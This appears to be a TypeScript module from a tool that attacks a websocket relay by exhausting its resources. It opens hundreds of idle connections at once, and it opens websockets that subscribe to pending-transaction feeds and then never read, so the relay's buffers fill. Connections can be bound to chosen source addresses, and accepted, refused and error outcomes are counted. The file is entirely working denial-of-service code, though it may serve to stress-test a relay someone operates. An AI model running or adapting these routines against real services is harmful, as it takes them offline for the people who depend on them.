// Connections that an attacker opens and keeps: idle ones, and websockets with subscriptions that it never reads.

import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { AttackParams } from "./attackKinds.ts";
import type { Tally } from "./flood.ts";

/** Keeps the sockets from being garbage-collected, which could close them. They end with the process. */
const held: Socket[] = [];
/** Connections that are opened at the same time. */
const AT_ONCE = 256;
const PENDING = "service_partialPendingTransactions";
/** A connection that is not open after this many ms counts as refused. */
const OPEN_MS = 5_000;
/** Clients must mask frames (RFC 6455); a zero key leaves the payload unchanged. */
const MASK = Buffer.alloc(4);

/** Opens `count` connections and sends nothing on them. */
export function holdIdle(params: AttackParams): Promise<Tally> {
	return openAll(params, async () => {
		const socket = await openSocket(params);
		if (socket === null) return "refused";
		// Reading lets the socket notice when the relay closes it.
		socket.resume();
		return "accepted";
	});
}

/** Opens `count` websockets with `size` subscriptions to pending transactions each, and reads nothing after the handshake. */
export function holdUnread(params: AttackParams): Promise<Tally> {
	const subscriptions = params.size ?? 1;
	return openAll(params, async () => {
		const socket = await openSocket(params);
		if (socket === null) return "refused";
		socket.write(
			"GET /ws HTTP/1.1\r\nHost: relay\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
				"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
		);
		const [head] = (await Promise.race([
			once(socket, "data").catch(() => [Buffer.from("reset")]),
			once(socket, "close").then(() => [Buffer.from("closed")]),
		])) as [Buffer];
		// Nothing is read from here on, so what the relay sends fills the buffers of the system, then its own.
		socket.pause();
		// Counts failures by the status line, for example "HTTP/1.1 503".
		if (!head.includes(" 101 ")) return head.subarray(0, 12).toString();
		for (let i = 0; i < subscriptions; i++) {
			const body = { jsonrpc: "2.0", id: i, method: "eth_subscribe", params: [PENDING] };
			socket.write(frame(JSON.stringify(body)));
		}
		return "accepted";
	});
}

/** Calls `open` `count` times, and counts how often it returned each text. */
async function openAll({ count }: AttackParams, open: () => Promise<string>): Promise<Tally> {
	const begun = performance.now();
	const outcomes: Record<string, number> = {};
	let left = count;
	const work = async (): Promise<void> => {
		while (left > 0) {
			left -= 1;
			const outcome = await open();
			outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
		}
	};
	await Promise.all(Array.from({ length: AT_ONCE }, work));
	return { sent: count, ms: Math.round(performance.now() - begun), outcomes };
}

/** Null if it did not open. */
function openSocket({ url, from }: AttackParams): Promise<Socket | null> {
	const { port, hostname } = new URL(url);
	return new Promise((resolve) => {
		const socket = connect({ port: Number(port), host: hostname, localAddress: from });
		const timer = setTimeout(() => socket.destroy(), OPEN_MS);
		socket.on("error", () => {});
		socket.once("close", () => resolve(null));
		socket.once("connect", () => {
			clearTimeout(timer);
			held.push(socket);
			resolve(socket);
		});
	});
}

/** A websocket text frame with `text`, see section 5.2 of RFC 6455. */
function frame(text: string): Buffer {
	const body = Buffer.from(text);
	const head =
		body.length < 126
			? Buffer.from([0x81, 0x80 | body.length])
			: Buffer.from([0x81, 0x80 | 126, body.length >> 8, body.length & 0xff]);
	return Buffer.concat([head, MASK, body]);
}
